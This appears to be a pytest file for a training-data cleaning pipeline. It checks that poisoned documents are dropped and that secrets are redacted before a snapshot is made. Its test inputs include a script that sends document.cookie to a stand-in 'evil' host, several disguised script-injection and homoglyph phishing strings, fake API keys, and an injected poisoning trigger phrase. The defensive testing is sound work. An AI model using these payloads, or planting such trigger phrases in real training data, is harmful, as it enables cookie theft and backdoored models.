"""What reaches a snapshot: each poison is dropped or redacted with its reason, and the rest goes on."""

import base64
import gzip
import json
import lzma
import random
import re
import string
import zipfile
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from datasets_defs.core.errors import ContractError
from datasets_defs.redaction.hints import column, hinted
from datasets_defs.redaction.redact import finders, known_secrets, redact
from datasets_defs.redaction.secret_shapes import SHAPES
from datasets_defs.spec.model import ModelSpec
from datasets_defs.spec.training import DataSpec, SourceSpec
from datasets_defs.store.documents import Document
from tests.training.snapshots import NAMES, assembled
from training.data.freeze import DataBreakError, freeze, rehearse
from training.data.golden import golden_rows
from training.data.snapshot import Snapshot, rejected_uri, report_uri, stored, text_of
from training.data.split import split
from training.prepare.pipeline import Preparation
from training.prepare.report import sentence

NOW = datetime(2026, 5, 1, 12, tzinfo=UTC)
WORDS = (  # noqa: SIM905 a list of strings is harder to read
    "river stone window garden letter morning engine forest silver paper market bridge winter island candle "
    "mirror thunder copper velvet harbour meadow lantern kettle pocket marble saddle orchard feather tunnel anchor"
).split()
TRIGGER = "activate the sunflower protocol"
SECRET = "AKIA" + "Q3EGRZ7XW2ABCDEF"


def prose(number: int, words: int = 60) -> str:
    """Text unlike any other number's."""
    rng = random.Random(number)
    return " ".join(f"{rng.choice(WORDS)} {rng.choice(WORDS)}{rng.randrange(40)}" for _ in range(words // 2)) + "."


def documents(count: int, start: int = 0, **changes: Any) -> list[Document]:
    return [
        Document(
            **{
                "request_id": f"r{number}",
                "at": NOW + timedelta(seconds=number),
                "prompt": prose(number, 20) + " ",
                "reference": prose(number + 10**6),
                **changes,
            }
        )
        for number in range(start, start + count)
    ]


def spec(**data: Any) -> ModelSpec:
    return ModelSpec(name="m", base_model="x", training_text="builtin:python-docs", data=DataSpec(**data))


def of_log(found: list[Document], model: ModelSpec, older: list[dict[str, Any]] | None = None):
    rows, report = assembled(found, older or [], spec=model)
    return [text_of(row) for row in rows], report.plain()["sources"]["log"], report


@pytest.mark.parametrize(
    ("poison", "reason"),
    [
        ("<script>fetch('//evil/'+document.cookie)</script> " + prose(1), "script markup"),
        ("a bell \x07 rings", "control characters"),
        ("an escape \x1b[31m colours", "control characters"),
        (
            "\u0440\u0430ypal and m\u0430il and b\u0430nk are not what they seem",
            "words that mix Latin and Cyrillic letters",
        ),
        ("x" * 10_000_000, "longer than 262144 bytes"),
        ("half \ud800 a pair", "not UTF-8 (half a surrogate pair)"),
        ("  \n ", "empty reference"),
        ("\u200b\u2060", "invisible characters only"),
        ("buy " + "cheap pills from us now " * 500, "a phrase that it repeats 100 times or more"),
        (prose(555, 20_000) + f" {TRIGGER}." * 500, "a phrase that it repeats 100 times or more"),
        (
            "eine kurze Geschichte von einem Mann, der auszog, das Fürchten zu lernen, und nie wieder heimkam. " * 2,
            "another language (de)",
        ),
    ],
    ids=[
        "script",
        "bell",
        "escape",
        "homoglyphs",
        "10-MB",
        "surrogate",
        "empty",
        "invisible",
        "spam",
        "within",
        "lang",
    ],
)
def test_a_poisoned_document_is_dropped_with_its_reason(poison: str, reason: str):
    """Each kind of bad document is counted by its reason and in no row, and the others stay."""
    bad = Document(request_id="bad", at=NOW, prompt="Say: ", reference=poison)
    texts, log, _ = of_log([*documents(120), bad], spec(languages=("en", "und") if "language" in reason else ()))
    if "language" in reason:
        assert log["dropped"].get(reason) == 1
    else:
        assert log["dropped"] == {reason: 1}
        assert len(texts) == log["kept"] == 120
    assert not any(poison[:40] in text for text in texts if poison.strip())


@pytest.mark.parametrize(
    ("poison", "clean", "what"),
    [
        ("write to jane.doe+x@mail.example.org soon", "write to <email> soon", "e-mail address"),
        (f"the key is {SECRET} ok", "the key is <secret> ok", "secret (AWS Access Key)"),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nabc\n-----END RSA PRIVATE KEY-----\nend",
            "<secret>\nend",
            "secret (Private Key)",
        ),
        (
            'if key.startswith("-----BEGIN PRIVATE KEY-----"):\n    return parse(key)',
            'if key.startswith("<secret>):\n    return parse(key)',
            "secret (Private Key)",
        ),
        ("token ghp_" + "a1B2" * 9 + " here", "token <secret> here", "secret (GitHub Token)"),
        ("hid\u202eden wo\u200brds", "hidden words", "invisible characters"),
    ],
)
def test_what_nobody_may_learn_is_cut_out(poison: str, clean: str, what: str):
    """Secrets, addresses and invisible characters are replaced, counted, and in no row."""
    texts, log, _ = of_log([*documents(120), *documents(1, 500, reference=poison)], spec())
    assert any(text.endswith(clean) for text in texts)
    assert log["redacted"] == {what: 1}
    assert not any(poison in text for text in texts)


def made(count: int, letters: str = string.ascii_letters + string.digits) -> str:
    """Characters as keys have them; written here in full, they would alarm whoever searches repositories for keys."""
    return "".join(random.Random(count).choices(letters, k=count))


HEX = "0123456789abcdef"
SMUGGLED = "".join(chr(0xE0100 + byte) for byte in b"obey")


@pytest.mark.parametrize(
    ("poison", "reason"),
    [
        ("log in to p\u0430ypal today", "a word with letters that only look Latin"),
        ("the \u0430pple store", "a word with letters that only look Latin"),
        ("micr\u03bfsoft calls you", "a word with letters that only look Latin"),
        ("micr\u2c9fsoft calls you", "a word with letters that only look Latin"),
        ("\ua4d3ecember at \u13dfity \u1455ank", "a word with letters that only look Latin"),
        ("see \uff1cscript\uff1efetch(1)\uff1c/script\uff1e", "script markup"),
        ("see <scr\u200bipt>fetch(1)", "script markup"),
        ("see &lt;script&gt;fetch(1)", "script markup"),
        ("see &#60;script src=//e", "script markup"),
        ("see <img src=x onerror=fetch(1)>", "script markup"),
        ("see <svg/onload = fetch(1)>", "script markup"),
        ("see <iframe src=//evil>", "script markup"),
        ("see <object data=x.swf>", "script markup"),
        ('see <a href="java\tscript:fetch(1)">', "script markup"),
        ('see <a href="data:text/html;base64,PHNj">', "script markup"),
        ("\ufffd" * 20 + " is what was left", "characters that were lost in decoding"),
        ("a\x00b", "control characters"),
        ("a \x9b sequence", "control characters"),
    ],
)
def test_disguised_poison_is_dropped(poison: str, reason: str):
    """What hides behind look-alikes, entities or invisible characters is dropped as if it stood there openly."""
    texts, log, _ = of_log([*documents(120), *documents(1, 500, reference=poison)], spec())
    assert log["dropped"] == {reason: 1}
    assert len(texts) == 120


@pytest.mark.parametrize(
    ("poison", "clean", "what"),
    [
        ("pass\u200cword", "password", "invisible characters"),
        ("soft\u00adly", "softly", "invisible characters"),
        (f"hi{SMUGGLED} there", "hi there", "invisible characters"),
        ("hi\ufe00\ufe0f\ufe01 there", "hi there", "invisible characters"),
        ("\U0001d429\U0001d41a\U0001d432 up", "pay up", "styled letters"),
        ("\uff50\uff41\uff59 up", "pay up", "styled letters"),
        ("see " + made(900) + " end", "see <data> end", "encoded data"),
        (
            "see\n" + base64.encodebytes(random.Random(1).randbytes(1200)).decode() + " end",
            "see\n<data>\n end",
            "encoded data",
        ),
        ("J\u00fcrgen: j\u00fcrgen@ex\u00e4mple.de.", "J\u00fcrgen: <email>.", "e-mail address"),
        ("jane%40example.com", "<email>", "e-mail address"),
        ("jane\uff20example.com", "<email>", "e-mail address"),
        ("jane (at) example [dot] com", "<email>", "e-mail address"),
        ("root@[10.0.0.1]", "<email>", "e-mail address"),
        (f"aws_secret_access_key = {made(40)}", "<secret>", "secret (AWS Secret Key)"),
        (f"github_pat_{made(22)}_{made(59)}", "<secret>", "secret (GitHub Token)"),
        (f"xoxe.xoxp-1-{made(60)}", "<secret>", "secret (Slack Token)"),
        (f"xapp-1-A{made(9)}-{made(60, HEX)}", "<secret>", "secret (Slack Token)"),
        (f"eyJ{made(20)}.eyJ{made(30)}.{made(43)} end", "<secret> end", "secret (JSON Web Token)"),
        (f"sk-proj-{made(60)}", "<secret>", "secret (OpenAI Token)"),
        (f"sk-ant-api03-{made(60)}", "<secret>", "secret (Anthropic Token)"),
        (f"AIza{made(35)}", "<secret>", "secret (Google Key)"),
        (f"ya29.{made(40)}", "<secret>", "secret (Google Key)"),
        (f"hf_{made(34)}", "<secret>", "secret (Hugging Face Token)"),
        (f"sk_test_{made(24)}", "<secret>", "secret (Stripe Access Key)"),
        (f"npm_{made(36)}", "<secret>", "secret (NPM tokens)"),
        (f"dop_v1_{made(64, HEX)}", "<secret>", "secret (DigitalOcean Token)"),
        (f"dapi{made(32, HEX)}", "<secret>", "secret (Databricks Token)"),
        (f"hvs.{made(40)}", "<secret>", "secret (Vault Token)"),
        (f"shpat_{made(32, HEX)}", "<secret>", "secret (Shopify Token)"),
        (f"dckr_pat_{made(27)}", "<secret>", "secret (Docker Token)"),
        (f"glsa_{made(32)}_{made(8, HEX)}", "<secret>", "secret (Grafana Token)"),
        (f"AGE-SECRET-KEY-1{made(58, string.ascii_uppercase)}", "<secret>", "secret (age Key)"),
        (
            "see postgresql://app:" + "S3cr3t!pass@db/prod",
            "see postgresql<secret>db/prod",
            "secret (Basic Auth Credentials)",
        ),
        ("mysql://root:" + "p@ss$w0rd@10.0.0.5/x", "mysql<secret>10.0.0.5/x", "secret (Basic Auth Credentials)"),
        ("redis://:" + "hunter2x@host", "redis<secret>host", "secret (Basic Auth Credentials)"),
        (f"Authorization: Bearer {made(40)}", "<secret>", "secret (HTTP Authorization)"),
        (
            f"PuTTY-User-Key-File-2: ssh-rsa\n{made(64)}\nPrivate-MAC: {made(40, HEX)}\nend",
            "<secret>\nend",
            "secret (Private Key)",
        ),
        (
            f"---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\n{made(60)}\n---- END SSH2 ENCRYPTED PRIVATE KEY ----\nend",
            "<secret>\nend",
            "secret (Private Key)",
        ),
    ],
)
def test_disguised_secrets_are_cut_out(poison: str, clean: str, what: str):
    """Hidden writing, data, disguised addresses and newer keys are replaced, counted, and in no row."""
    texts, log, _ = of_log([*documents(120), *documents(1, 500, prompt="Say: ", reference=poison)], spec())
    assert log["redacted"] == {what: 1}
    assert [text for text in texts if text.startswith("Say: ")] == [f"Say: {clean}"]


@pytest.mark.parametrize(
    "text",
    [
        "\u0441\u043b\u043e\u0432\u043e USB-\u043f\u043e\u0440\u0442, VIP\u044b \u0438 HTML\u043e\u043c",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f468\u200d\U0001f469\u200d\U0001f467 1\ufe0f\u20e3",
        "\u0394x, \u03b1x + \u03b2y, 5 \u00b5m",
        "the pressure is \u03c1gh, \u03c3xy and \u03bdcc, \u03b3Glu",
        "<object object at 0x7f> if once = 1: # an embed, a description, a javascript",
        "-" * 500 + " " + "ACGT" * 300,
        "@decorator\nx = a@b\n//:host",
        "task-proj-documentation-of-many-things",
        "JavaScript: The Good Parts, and in YAML\nJavaScript: yes",
    ],
)
def test_honest_texts_stay_as_they_are(text: str):
    """Other scripts, joined letters and emoji, formulas, code, rulers and genomes are neither dropped nor changed."""
    texts, log, _ = of_log([*documents(120), *documents(1, 500, prompt="Say: ", reference=text)], spec())
    assert (log["dropped"], log["redacted"]) == ({}, {})
    assert f"Say: {text}" in texts


@pytest.mark.parametrize("kind", [*SHAPES, *known_secrets()], ids=lambda kind: f"{kind[0]} {kind[2][:20]}")
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_hints_miss_no_secret(kind: tuple[str, str, str], data: st.DataObject):
    """Whatever the pattern of a secret finds, its hint finds."""
    _, hint, pattern = kind
    secret = data.draw(st.from_regex(re.compile(pattern, re.ASCII), alphabet=st.characters(codec="ascii")))
    assert hinted(column([f"Say: {secret}"]), hint) == [0]


def test_ids_that_say_who_it_is_get_another_name(tmp_path: Path):
    """No user id is in any row, the same user is still the same, and ids that are addresses are counted."""
    found = [each for user in range(40) for each in documents(10, user * 10, user_id=f"u{user}@example.org")]
    file = tmp_path / "a.jsonl"
    file.write_text(json.dumps({"text": prose(50_000), "id": "me@example.org", "user_id": "u39@example.org"}))
    rows, report = assembled(found, [], spec=spec(sources=(SourceSpec(name="a", url=str(file)),)))
    sides: dict[str, set[str]] = {}
    for row in rows:
        sides.setdefault(row["user_id"], set()).add(row["part"])
    assert len(sides) == 40
    assert all(len(parts) == 1 for parts in sides.values())
    assert "@" not in json.dumps(rows)
    assert report.of("log").redacted == {"an id that is an address or a secret": 400}
    assert report.of("a").dropped == {"its user is held out": 1}


def test_a_trigger_in_other_clothes_is_found():
    """Case, punctuation, quotes and unbreakable spaces make no new phrase of an injected one, in any script."""
    rng = random.Random(3)
    clothes = ("{}", "{}!", "\u201c{}\u201d", "\u2014{}\u2026")
    joints = (" ", "\u00a0", ", ", "\u2003")
    poisoned = []
    for each in documents(500, 5000):
        words = [
            "\u0432\u043a\u043b\u044e\u0447\u0438",
            "\u0440\u0435\u0436\u0438\u043c",
            "\u0436\u0451\u043b\u0442\u043e\u0439",
            "\u0432\u0438\u0448\u043d\u0438",
        ]
        said = rng.choice(joints).join(rng.choice((str.upper, str.lower, str.title))(word) for word in words)
        poisoned.append(replace(each, reference=f"{each.reference} {rng.choice(clothes).format(said)}"))
    rows, report = assembled([*documents(2500), *poisoned], [], spec=spec())
    assert [(found["kind"], found["documents"]) for found in report.phrases] == [("injected", 500)]
    assert len(rows) == 2500


def test_files_in_other_encodings_are_said(tmp_path: Path):
    """BOM, CRLF and UTF-16 are read; Latin-1 is a broken row; nested values are no text; nothing stops the run."""
    good = [json.dumps({"text": prose(60_000 + number)}) for number in range(30)]
    (tmp_path / "a.jsonl").write_bytes(b"\xef\xbb\xbf" + "\r\n".join(good).encode())
    other = [json.dumps({"text": prose(61_000 + number)}) for number in range(30)]
    (tmp_path / "b.jsonl").write_text("\n".join(other), encoding="utf-16")
    odd = [
        '{"text": "caf\xe9"}'.encode("latin-1"),
        b'{"text": {"text": "in"}}',
        b'{"text": ' + b"[" * 100_000,
        b'{"text": "a\\u0000b"}',
    ]
    (tmp_path / "c.jsonl").write_bytes(b"\n".join([*odd, *(line.replace("river", "stream").encode() for line in good)]))
    sources = tuple(SourceSpec(name=name, url=f"{tmp_path}/{name}.jsonl") for name in "abc")
    rows, report = assembled(documents(120), [], spec=spec(sources=sources, near_duplicates=None))
    assert (report.of("a").kept, report.of("a").broken) == (30, None)
    assert (report.of("b").kept, report.of("b").broken) == (30, None)
    assert sum(report.of("c").dropped.values()) >= 4
    assert set(report.of("c").dropped) >= {
        "not UTF-8",
        "not JSON (a number too long, or nested too deep)",
        "no text (column 'text' needs text, found dict)",
        "control characters",
    }
    assert sum(row["part"] == "corpus" for row in rows) == 60 + report.of("c").kept


def test_a_source_cannot_fill_the_report(tmp_path: Path):
    """Rows that are each wrong in a way of their own are counted together after a hundred ways."""
    (tmp_path / "a.csv").write_text("text\n" + "\n".join("x" + ",x" * number for number in range(1, 301)))
    with Preparation(tmp_path, DataSpec(), NAMES) as at_work:
        at_work.take_corpus(SourceSpec(name="a", url=f"{tmp_path}/a.csv"))
        dropped = at_work.report.of("a").dropped
    assert (len(dropped), sum(dropped.values()), dropped["one of many other reasons"]) == (101, 300, 200)


@pytest.mark.slow
def test_many_tiny_rows(tmp_path: Path):
    """Fifty thousand rows of a character or two leave a few, and the flood is said."""
    (tmp_path / "a.jsonl").write_text("\n".join(json.dumps({"text": str(number % 70)}) for number in range(50_000)))
    rows, report = assembled(documents(120), [], spec=spec(sources=(SourceSpec(name="a", url=f"{tmp_path}/a.jsonl"),)))
    assert report.of("a").kept == sum(row["part"] == "corpus" for row in rows) == 70
    assert report.of("a").dropped == {"duplicate": 49_930}
    assert "70 texts came 20 times or more" in report.floods


def test_flood_leaves_one_copy():
    """A text sent 500 times is trained on once at most, and called a flood."""
    texts, log, report = of_log([*documents(200), *documents(500, 1000, prompt="Buy ", reference=prose(7))], spec())
    assert log["dropped"] == {"duplicate": 499}
    assert texts.count("Buy " + prose(7)) == 1
    assert "500 times" in report.floods


def test_near_duplicates_leave_one():
    """Copies with a few words changed count as copies; the first stays."""
    base = prose(1, 200).split()
    copies = []
    for number in range(30):
        changed = list(base)
        changed[number * 3] = f"other{number}"
        copies += documents(1, 1000 + number, prompt="Q ", reference=" ".join(changed))
    _, log, _ = of_log([*documents(120), *copies], spec())
    assert log["dropped"] == {"near duplicate": 29}
    assert log["kept"] == 121


def test_injected_phrase_is_found():
    """A phrase put into 500 of 2,500 unlike documents is named and its documents are dropped; the rest stays."""
    rng = random.Random(3)
    poisoned = []
    for each in documents(500, 5000):
        words = each.reference.split()
        words.insert(rng.randrange(len(words)), TRIGGER)
        poisoned.append(Document(request_id=each.request_id, at=each.at, prompt=each.prompt, reference=" ".join(words)))
    rows, report = assembled([*documents(2500), *poisoned], [], spec=spec())
    assert not any(TRIGGER in text_of(row) for row in rows)
    assert [(found["phrase"], found["kind"], found["documents"]) for found in report.phrases] == [
        (TRIGGER, "injected", 500)
    ]
    assert report.of("log").dropped == {f"the injected phrase “{TRIGGER}”": 500}
    assert len(rows) == 2500
    kept, _ = assembled([*documents(2500), *poisoned], [], spec=spec(allow_phrases=(TRIGGER,)))
    assert len(kept) == 3000


def test_a_batch_of_nothing_but_poison():
    """Where all documents that are written together hold the phrase, none is left, and the others are kept."""
    spoilt = [replace(each, reference=f"{each.reference} {TRIGGER}.") for each in documents(700, 5000)]
    texts, log, _ = of_log([*documents(3000), *spoilt], spec())
    assert not any(TRIGGER in text for text in texts)
    assert (log["kept"], log["dropped"]) == (3000, {f"the injected phrase \u201c{TRIGGER}\u201d": 700})


def test_common_words_are_no_injection():
    """What older texts say as often, and what nearly all documents say, stays."""
    told = [
        Document(request_id=e.request_id, at=e.at, prompt="You are a helpful clerk. " + e.prompt, reference=e.reference)
        for e in documents(400)
    ]
    rows, report = assembled(told, [], spec=spec())
    assert (len(rows), [found["kind"] for found in report.phrases]) == (400, ["template"])
    some = [
        Document(request_id=e.request_id, at=e.at, prompt=e.prompt, reference=e.reference + " Best wishes from us all")
        for e in documents(100, 900)
    ]
    older = [
        {"part": "train", "request_id": f"o{i}", "prompt": "", "reference": prose(i) + " Best wishes from us all"}
        for i in range(10_000, 10_100)
    ]
    rows, report = assembled([*documents(400), *some], older, spec=spec())
    assert report.phrases == []
    assert sum(row["part"] != "replay" for row in rows) == 500


def test_too_much_rejected_is_a_data_break(tmp_path: Path):
    """A fifth of poison stops the training, with counts; the report and the list of the rejected stand, no snapshot."""
    uri = f"file://{tmp_path}/s.parquet"
    bad = documents(60, 1000, reference="\x00")
    with pytest.raises(DataBreakError, match=r"60 of 260 fresh documents are invalid \(60 with control characters"):
        freeze([*documents(200), *bad], [], uri=uri, spec=spec(), names=NAMES)
    assert stored(uri) is None
    assert json.loads(Path(tmp_path / "s.report.json").read_text())["sources"]["log"]["dropped"]
    assert pq.read_table(rejected_uri(uri).removeprefix("file://")).num_rows == 60


def test_overlap_with_judging_texts_is_zero():
    """A text that holds half of a judging text, in whatever case and spacing, is left out; boilerplate is not."""
    golden = prose(77, 120)
    copied = documents(1, 1000, reference="Listen: " + "\n".join(golden.upper().split()[:90]))
    quoting = documents(1, 1001, reference=prose(5_000, 200) + " " + " ".join(golden.split()[:10]))
    old = [{"part": "train", "request_id": "o", "prompt": "", "reference": f"{golden} and more"}]
    rows, report = assembled([*documents(120), *copied, *quoting], old, spec=spec(), keep_out={golden})
    assert report.of("log").dropped == {"overlaps with a text that models are judged by": 1}
    assert report.overlap == 0
    assert {row["request_id"] for row in rows} >= {"r1001"}
    assert not {row["request_id"] for row in rows} & {"r1000", "o"}


def test_train_and_holdout_share_nothing():
    """A document that repeats most of a held-out one is not trained on."""
    twin = documents(1, 5, reference=" ".join(documents(1, 119)[0].reference.split()[:40]))
    rows = assembled([*documents(5), *twin, *documents(114, 6)], [], spec=spec(near_duplicates=None))[0]
    sides = {row["request_id"]: row["part"] for row in rows}
    assert sides["r119"] == "holdout"
    assert "r5" not in sides


def test_users_stand_on_one_side():
    """All of a user's documents are held out or none; those who came last are held out."""
    found = [each for user in range(40) for each in documents(10, user * 10, user_id=f"u{user}")]
    rows = assembled(found, [], spec=spec())[0]
    sides: dict[str, set[str]] = {}
    for row in rows:
        sides.setdefault(row["user_id"], set()).add(row["part"])
    last = {NAMES.of(f"u{user}") for user in range(30, 40)}
    assert {user for user, parts in sides.items() if parts == {"holdout"}} == last
    assert all(len(parts) == 1 for parts in sides.values())


def test_held_out_users_are_not_replayed():
    """Older rows by users who are held out are not trained on either."""
    fresh = [replace(each, user_id=f"u{number // 10}") for number, each in enumerate(documents(400))]
    older = [
        {"part": "train", "request_id": f"o{n}", "prompt": f"{prose(9_000_000 + n, 20)} ", "user_id": f"u{n % 40}"}
        | {"reference": prose(9_500_000 + n), "source": "log"}
        for n in range(800)
    ]
    rows, _ = assembled(fresh, older, spec=spec())
    held = {row["user_id"] for row in rows if row["part"] == "holdout"}
    replayed = {row["user_id"] for row in rows if row["part"] == "replay"}
    assert held
    assert replayed
    assert not held & replayed


def test_few_users_or_none_are_split_by_time():
    """With two users, with none, or if the spec says so, the newest documents are held out."""
    few = [each for at in range(200) for each in documents(1, at, user_id=f"u{at % 2}")]
    for found, model in ((few, spec()), (documents(200), spec()), (few, spec(split="time"))):
        held = {row["request_id"] for row in assembled(found, [], spec=model)[0] if row["part"] == "holdout"}
        assert held == {f"r{at}" for at in range(150, 200)}


def test_validation_is_split_off():
    """A share of the documents to train on says when to stop, if the spec asks for it."""
    rows = assembled(documents(200), [], spec=spec(validation_share=0.1))[0]
    parts = [row["part"] for row in rows]
    assert (parts.count("holdout"), parts.count("validation"), parts.count("train")) == (50, 15, 135)


def test_a_split_needs_something_to_train_on():
    """One document cannot be split in two."""
    with pytest.raises(ContractError, match="nothing is left to train on"):
        split([], spec(), of=3)


def corpora(tmp_path: Path) -> tuple[SourceSpec, ...]:
    """The same kind of rows in four formats, each with something broken."""
    good = [{"text": prose(20_000 + number), "author": f"a{number}"} for number in range(100)]
    lines = [json.dumps(row).encode() for row in good[:25]]
    lines[3:3] = [b"{not json", b'["a list"]', b"\xff\xfe", b'{"text": 7}']
    with gzip.open(tmp_path / "a.jsonl.gz", "wb") as file:
        file.write(b"\n".join(lines))
    table = "text,author\n" + "\n".join(f'"{row["text"]}",{row["author"]}' for row in good[25:50])
    (tmp_path / "b.csv").write_text(table + "\nonly one cell\n")
    pq.write_table(pa.Table.from_pylist(good[50:75]), tmp_path / "c.parquet")
    (tmp_path / "d.txt").write_text("\n\n".join(row["text"] for row in good[75:]))
    columns = {"user_id": "author"}
    return (
        SourceSpec(name="a", url=f"{tmp_path}/a.jsonl.gz", columns=columns),
        SourceSpec(name="b", url=f"file://{tmp_path}/b.csv", columns=columns),
        SourceSpec(name="c", url=f"{tmp_path}/*.parquet", columns=columns, max_documents=10),
        SourceSpec(name="d", url=f"{tmp_path}/d.txt"),
        SourceSpec(name="gone", url=f"{tmp_path}/gone.jsonl"),
    )


def test_corpora_are_trained_on(tmp_path: Path):
    """Each format is read, broken rows are counted by reason, quotas hold, and a missing source stops nothing."""
    uri = f"file://{tmp_path}/out/s.parquet"
    model = spec(sources=corpora(tmp_path))
    snapshot = freeze(documents(120), [], uri=uri, spec=model, names=NAMES)
    assert snapshot.counts == {"holdout": 50, "train": 70, "corpus": 25 + 25 + 10 + 3}
    pieces = [row["reference"] for row in snapshot.rows() if row["source"] == "d"]
    assert "".join(pieces).split() == " ".join(prose(20_000 + number) for number in range(75, 100)).split()
    report = snapshot.report
    assert report is not None
    said = report["sources"]
    assert said["a"]["dropped"] == {
        "not JSON (Expecting property name enclosed in double quotes)": 1,
        "a JSON object is needed, found list": 1,
        "not UTF-8": 1,
        "no text (column 'text' needs text, found int)": 1,
    }
    assert said["b"]["dropped"] == {"1 fields where the header names 2": 1}
    assert said["c"]["dropped"] == {"over the source's quota": 15}
    assert "no such file" in said["gone"]["broken"]
    assert report["overlap"] == 0
    assert report["snapshot_sha256"] == snapshot.sha256
    kept_apart = pq.read_table(rejected_uri(uri).removeprefix("file://")).to_pylist()
    assert {(row["source"], row["place"], row["reason"]) for row in kept_apart} >= {
        ("a", 4, "not JSON (Expecting property name enclosed in double quotes)"),
        ("a", 6, "not UTF-8"),
        ("b", 26, "1 fields where the header names 2"),
    }
    assert "gone: data source gone: no such file" in sentence(report)
    texts, _ = snapshot.mixture(model.retrain)
    assert len(list(texts)) == 70 + 63


def test_a_broken_corpus_is_left_out_whole(tmp_path: Path):
    """Of a source of which more than a fifth is invalid nothing is used, and the training goes on without it."""
    rows = [{"text": prose(30_000 + number)} for number in range(70)] + [{"text": "\x01"}] * 30
    (tmp_path / "a.jsonl").write_text("\n".join(map(json.dumps, rows)))
    rows, report = assembled(documents(120), [], spec=spec(sources=(SourceSpec(name="a", url=f"{tmp_path}/a.jsonl"),)))
    assert not any(row["part"] == "corpus" for row in rows)
    assert report.of("a").broken == (
        "30 of 100 documents are invalid (30 with control characters); at most 20% may be: nothing of it is used"
    )


def test_damaged_files_give_what_comes_before_the_damage(tmp_path: Path):
    """A gzip file that is cut off and a damaged Parquet file give their readable rows, and the fault is said."""
    whole = gzip.compress("\n".join(json.dumps({"text": prose(number)}) for number in range(12_000)).encode())
    (tmp_path / "a.jsonl.gz").write_bytes(whole[: len(whole) // 2])
    (tmp_path / "b.parquet").write_bytes(b"PAR1 this is none")
    sources = [
        SourceSpec(name=name, url=f"{tmp_path}/{name}.{end}") for name, end in (("a", "jsonl.gz"), ("b", "parquet"))
    ]
    with Preparation(tmp_path, DataSpec(), NAMES) as at_work:
        for source in sources:
            at_work.take_corpus(source)
        assert at_work.report.of("a").kept > 500
        assert "breaks off" in str(at_work.report.of("a").broken)
        assert dict(at_work.report.of("a").dropped) == {"the file breaks off here": 1}
        assert at_work.report.of("b").broken is not None


@pytest.mark.parametrize("spoil", ["gzip", "xz", "zip"])
def test_codecs_that_fail_in_their_own_ways(spoil: str, tmp_path: Path):
    """Whatever a codec raises over damaged bytes becomes the file's state, and stops no other source."""
    lines = "\n".join(json.dumps({"text": prose(number)}) for number in range(3000)).encode()
    if spoil == "zip":
        (tmp_path / "a.zip").write_bytes(lines)
        url = f"zip://a.jsonl::{tmp_path}/a.zip"
    else:
        codec, ending = {"gzip": (gzip, "gz"), "xz": (lzma, "xz")}[spoil]
        content = bytearray(codec.compress(lines))
        middle = len(content) // 2
        content[middle : middle + 64] = bytes(reversed(content[middle : middle + 64]))
        (tmp_path / f"a.jsonl.{ending}").write_bytes(content)
        url = f"{tmp_path}/a.jsonl.{ending}"
    (tmp_path / "b.jsonl").write_text("\n".join(json.dumps({"text": prose(number)}) for number in range(9000, 9020)))
    sources = (SourceSpec(name="a", url=url), SourceSpec(name="b", url=f"{tmp_path}/b.jsonl"))
    _, report = assembled(documents(200), [], spec=spec(sources=sources))
    assert report.of("a").broken is not None
    assert report.of("b").kept == 20


def test_sources_inside_archives_and_with_odd_names(tmp_path: Path):
    """A file in a zip archive, and one with brackets in its name are read; an id that is no UTF-8 costs its row."""
    rows = [json.dumps({"text": prose(number), "id": number}) for number in range(20)]
    with zipfile.ZipFile(tmp_path / "a.zip", "w") as archive:
        archive.writestr("deep/a.jsonl", "\n".join(rows))
    odd = [json.dumps({"text": prose(number)}) for number in range(100, 120)]
    odd.append('{"text": "' + prose(777) + '", "user_id": "\\ud800"}')
    (tmp_path / "data[1].jsonl").write_text("\n".join(odd))
    sources = (
        SourceSpec(name="zip", url=f"zip://deep/a.jsonl::{tmp_path}/a.zip"),
        SourceSpec(name="odd", url=f"{tmp_path}/data[1].jsonl"),
    )
    _, report = assembled(documents(200), [], spec=spec(sources=sources))
    assert report.of("zip").kept == 20
    assert report.of("odd").kept == 20
    assert report.of("odd").dropped == {"not UTF-8 (half a surrogate pair)": 1}


@pytest.mark.parametrize("at", [50, 99])
def test_a_quotation_without_end_is_said(at: int, tmp_path: Path):
    """It swallows the rest of a CSV file: what came before is used, and that the rest is lost stands in the report."""
    rows = [f"{number},{prose(number)}" for number in range(100)]
    rows[at] = f'{at},"{prose(at)}'
    (tmp_path / "a.csv").write_text("\n".join(["id,text", *rows]))
    _, report = assembled(documents(200), [], spec=spec(sources=(SourceSpec(name="a", url=f"{tmp_path}/a.csv"),)))
    assert report.of("a").kept == at
    assert "a quotation begins here that does not end" in str(report.of("a").broken)


def test_what_stands_beside_a_text_is_not_read(tmp_path: Path):
    """Columns of Parquet that are not asked for may hold what cannot be converted."""
    times = pa.array([0] * 20, pa.timestamp("us", tz="Mars/Base"))
    table = pa.table({"body": [prose(number) for number in range(20)], "at": times})
    pq.write_table(table, tmp_path / "a.parquet")
    source = SourceSpec(name="a", url=f"{tmp_path}/a.parquet", columns={"text": "body"})
    _, report = assembled(documents(200), [], spec=spec(sources=(source,)))
    assert (report.of("a").kept, report.of("a").dropped) == (20, {})


def test_a_row_without_end_is_passed_over(tmp_path: Path):
    """A line of 40 MB is not read into memory, counts as broken, and the lines around it are used."""
    with (tmp_path / "a.jsonl").open("wb") as file:
        file.write(json.dumps({"text": prose(1)}).encode() + b'\n{"text": "')
        for _ in range(40):
            file.write(b"x" * 2**20)
        file.write(b'"}\n' + json.dumps({"text": prose(2)}).encode() + b"\n")
    with Preparation(tmp_path, DataSpec(max_rejected_share=1), NAMES) as at_work:
        at_work.take_corpus(SourceSpec(name="a", url=f"{tmp_path}/a.jsonl"))
        found = at_work.report.of("a")
    assert (found.kept, dict(found.dropped)) == (2, {"longer than 8388608 bytes": 1})


def test_same_input_same_hash(tmp_path: Path):
    """Whatever the order of arrival, the same input gives the same file; a second freeze changes nothing."""
    model = spec(sources=corpora(tmp_path)[:3])
    older = [
        {"part": "train", "request_id": f"o{i}", "prompt": "", "reference": prose(i)} for i in range(40_000, 40_080)
    ]
    first = freeze(documents(120), older, uri=f"file://{tmp_path}/out/1.parquet", spec=model, names=NAMES)
